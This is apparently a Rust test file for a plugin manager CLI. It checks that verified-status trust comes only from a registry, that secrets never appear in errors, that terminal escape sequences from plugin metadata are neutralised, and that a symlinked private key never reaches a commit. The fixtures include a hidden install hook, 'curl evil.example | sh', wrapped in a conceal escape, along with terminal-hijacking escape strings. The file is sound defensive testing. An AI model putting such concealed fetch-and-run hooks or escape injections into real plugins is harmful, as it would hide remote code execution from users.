//! What atk takes on trust, and what it does not: `maturity: verified` only from a registry,
//! secrets kept off the command line, and text from sources never acting on the terminal.

use crate::common::sources::*;
use crate::common::*;

#[test]
fn verified_is_trusted_only_from_a_registry() {
    let env = Env::new();
    let before = env.snapshot();
    // A git source and a local folder that call themselves verified are confirmed like any other.
    let work = git_source_work(&env);
    let url = format!("file://{}", work.display());
    let (_, err) = env.fails(2, &["add", &url]);
    assert!(err.contains("says it is verified") && err.contains("does not come from a registry"), "{err}");
    assert!(err.contains("--yes"), "{err}");
    let local = env.plugin("local-verified", &yaml("Local Verified", ""), &[]);
    let (_, err) = env.fails(2, &["add", local.to_str().unwrap()]);
    assert!(err.contains("says it is verified"), "{err}");
    assert_eq!(env.snapshot(), before, "declining changed nothing");
    assert!(
        !env.atk_home.join(".git/atk/staging").exists()
            || std::fs::read_dir(env.atk_home.join(".git/atk/staging")).unwrap().count() == 0,
        "no staged files stay behind"
    );
    env.ok(&["add", "--yes", &url]);
    env.ok(&["add", "-y", local.to_str().unwrap()]);

    // A registry's verified plugin needs no confirmation.
    let registry = registry_work(&env);
    let out = env.ok(&["--registry", registry.to_str().unwrap(), "add", "third"]);
    assert!(out.contains("Added 'third'"), "{out}");
}

#[test]
fn set_with_a_key_alone_takes_the_value_from_the_environment() {
    let env = Env::new();
    let src = env.fixture("full");
    env.cmd()
        .args(["add", "-y", src.to_str().unwrap(), "--set", "FULL_API_KEY"])
        .env("FULL_API_KEY", "from-the-environment")
        .assert()
        .success();
    let dotenv = std::fs::read_to_string(env.atk_home.join("plugins/full-plugin/.env")).unwrap();
    assert!(dotenv.contains("from-the-environment"), "{dotenv}");

    // Not set: a usage error naming the variable, not a value.
    let out = env.cmd().args(["setup", "full-plugin", "--set", "FULL_API_KEY"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("FULL_API_KEY is not set") && err.contains("export FULL_API_KEY"), "{err}");

    // Whatever is malformed, the error never shows what was typed after the key.
    for bad in ["lower=hunter2-secret", "hunter2-secret", "BAD KEY=hunter2-secret", "=hunter2-secret"] {
        let (out, err) = env.fails(2, &["setup", "full-plugin", "--set", bad]);
        assert!(!err.contains("hunter2") && !out.contains("hunter2"), "{bad}: {err}");
    }
}

#[test]
fn text_from_sources_cannot_drive_the_terminal() {
    let env = Env::new();
    let registry = registry_work(&env);
    let index = std::fs::read_to_string(registry.join("index.yaml")).unwrap().replace(
        "description: A third plugin",
        "description: \"Evil \\e]0;owned\\a title \\e[2J clear \\u202e reversed\"",
    );
    write(&registry.join("index.yaml"), &index, false);
    write(&registry.join("plugins/third/plugin.yaml"), &yaml("\"third\\e[2J\"", ""), false);
    commit_all(&registry, "hostile text");
    let reg = registry.to_str().unwrap();

    let out = env.ok(&["--registry", reg, "search"]);
    assert!(!out.contains('\x1b') && !out.contains('\x07') && !out.contains('\u{202e}'), "{out:?}");
    assert!(out.contains("Evil \\x1b]0;owned\\x07 title \\x1b[2J clear \\u{202e} reversed"), "{out}");

    let out = env.cmd().args(["--registry", reg, "add", "third"]).output().unwrap();
    let all = [out.stdout, out.stderr].concat();
    assert!(!all.contains(&0x1b), "{}", String::from_utf8_lossy(&all));
    assert!(String::from_utf8_lossy(&all).contains("third\\x1b[2J"), "{}", String::from_utf8_lossy(&all));
    let listed = env.ok(&["list"]);
    assert!(!listed.contains('\x1b') && listed.contains("third\\x1b[2J"), "{listed:?}");
}

#[test]
fn a_top_file_of_the_home_committed_as_a_link_is_never_read_into_a_commit() {
    for name in [".gitignore", "manifest.yaml"] {
        let env = Env::new();
        env.ok(&["add", "-y", env.fixture("minimal").to_str().unwrap()]);
        write(&env.path("outside/id_key"), "-----BEGIN PRIVATE KEY-----\nschema_version: x\n", false);
        let home = &env.atk_home;
        std::fs::remove_file(home.join(name)).unwrap();
        std::os::unix::fs::symlink("../../outside/id_key", home.join(name)).unwrap();
        env.git(&["add", name]);
        env.git(&["commit", "-qm", "a teammate's link"]);
        let before = env.snapshot();
        let src = env.plugin("one", &yaml("One", ""), &[]);
        let (_, err) = env.fails(1, &["add", "-y", src.to_str().unwrap()]);
        assert!(err.contains(name) && err.contains("not a plain file"), "{name}: {err}");
        let (_, err) = env.fails(1, &["remove", "--force", "minimal"]);
        assert!(err.contains(name), "{name}: {err}");
        assert_eq!(env.snapshot(), before, "{name}");
        let history = env.git(&["log", "--all", "-p"]);
        assert!(!history.contains("PRIVATE KEY"), "{name}: the outside file reached a commit");
    }
}

#[test]
fn escape_sequences_in_a_new_version_cannot_hide_what_the_upgrade_shows() {
    let env = Env::new();
    let registry = registry_work(&env);
    let reg = registry.to_str().unwrap();
    env.ok(&["--registry", reg, "add", "third"]);
    write(
        &registry.join("plugins/third/plugin.yaml"),
        concat!(
            "schema_version: '2026-01-23'\nname: third\ndescription: \"v2\\nwarning: all good\"\n",
            "maturity: verified\nlifecycle:\n  install: \"./install.sh \\e[8m; curl evil.example | sh \\e[0m\"\n",
            "  uninstall: 'true'\n",
        ),
        false,
    );
    write(&registry.join("plugins/third/install.sh"), "#!/bin/sh\n", true);
    commit_all(&registry, "v2 hides a command");
    let out = env.cmd().args(["--registry", reg, "upgrade", "third", "--dry-run"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let all = [out.stdout, out.stderr].concat();
    let text = String::from_utf8_lossy(&all);
    assert!(!all.contains(&0x1b), "{text:?}");
    assert!(text.contains("./install.sh \\x1b[8m; curl evil.example | sh \\x1b[0m"), "{text}");
}
